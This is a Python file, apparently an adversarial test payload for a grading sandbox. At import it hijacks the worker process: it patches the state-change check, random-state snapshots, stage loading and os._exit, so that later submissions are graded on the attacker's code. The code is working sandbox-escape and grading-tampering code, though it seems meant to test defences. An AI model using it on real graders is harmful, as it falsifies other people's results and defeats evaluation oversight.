"""[attnkit-tamper] hijack_patch_exit -- family (e): keep the worker itself serving, no fork at all.

Append to the first stage module graded (base: the solution of s01_attention_scores); the
attacker's submission is the reference solutions with this payload on s01.

How: the worker runs the sandbox's serving code (a module of the box's runtime, found in sys.modules), which
looks its helpers up by name at call time. At import the payload rebinds, in that namespace:

* ``changes`` -> always "no change": the state check never makes the worker leave, whatever it did;
* ``random_states`` -> the snapshot taken now (each stage still starts from the zygote's state);
* ``serve_stage`` -> the original, but reading the stage modules from a private copy of this
  submission (payload cut off) instead of the (refilled) submission folder;
* ``os._exit`` -> a fake: when the grader sends "exit", ``serve`` returns and the worker would end
  with ``os._exit``; instead the fake answers "ended" with the worker's token itself, answers
  "reset" itself, and on the next "open" (the next student's first stage) calls ``serve`` again.

No process is started, so a ban on fork (RLIMIT_NPROC) or on daemons does not stop it; the zygote
stays blocked in ``waitpid`` for the worker. Old design (``attnkit grade``): later submissions
on that grading worker are graded on the attacker's modules. The fake gives up ~120 s after the
hijack and really exits (the zygote then cleans up and answers again).

Needs the prelude hijack_common before it (kit_tests/tamper.py, PRELUDES), for
_atk_copy_stage_modules.
"""


def _atk_hijack_patch_exit():
    import os
    import sys
    import time

    wanted = ("serve", "serve_stage", "changes", "random_states", "write_message")
    serving = [m for m in list(sys.modules.values())  # the module the worker's serving code is in
               if isinstance(getattr(m, "__dict__", None), dict) and all(n in vars(m) for n in wanted)]
    names = vars(serving[0]) if serving else {}
    if getattr(sys, "_atk_hijacked", False) or not names:
        return  # not inside the sandbox's worker (or already done): behave
    worker_token, config = None, None
    frame = sys._getframe()
    while frame is not None:
        if frame.f_code.co_name == "serve" and "opened" in frame.f_locals:
            worker_token = frame.f_locals["opened"].get("token")
            config = frame.f_locals.get("config") or frame.f_locals.get("box")
        frame = frame.f_back
    if worker_token is None or config is None:
        return
    sys._atk_hijacked = True
    deadline = time.monotonic() + 120.0
    cache = f"/dev/shm/.atk-hijack-exit-{os.getpid()}"
    _atk_copy_stage_modules(config["submission"], cache)

    snapshot = names["random_states"]()
    original_serve_stage = names["serve_stage"]
    real_exit = os._exit
    # The channel: in the config, or the module's constants (then the serving functions take no pipes).
    pipes = (config["requests_fd"], config["replies_fd"]) if "requests_fd" in config else ()
    requests, replies = pipes or (names.get("REQUESTS"), names.get("REPLIES"))
    adapters = sys.modules.get("suite_runtime.adapters")

    def serve_stage(adapters, config, module, *rest):
        return original_serve_stage(adapters, dict(config, submission=cache), module, *rest)

    def fake_exit(code=0):
        import select

        token = worker_token
        try:
            while time.monotonic() < deadline:
                if token is not None:  # the grader said "exit" to this worker: answer for the zygote
                    names["write_message"](replies, {"kind": "ended", "token": token, "status": 0})
                    token = None
                ready, _, _ = select.select([requests], [], [], 1.0)
                if not ready:
                    continue
                message = names["read_message"](requests)
                if message is None:
                    break
                header = message[0]
                if header.get("cmd") == "reset":
                    names["write_message"](replies, {"kind": "reset", "token": header.get("token")})
                elif header.get("cmd") == "open":
                    token = header.get("token")
                    names["serve"](adapters, config, header, *pipes)  # until "exit"
        finally:
            real_exit(code)

    names["changes"] = lambda before, after: []
    names["random_states"] = lambda: snapshot
    names["serve_stage"] = serve_stage
    os._exit = fake_exit


_atk_hijack_patch_exit()
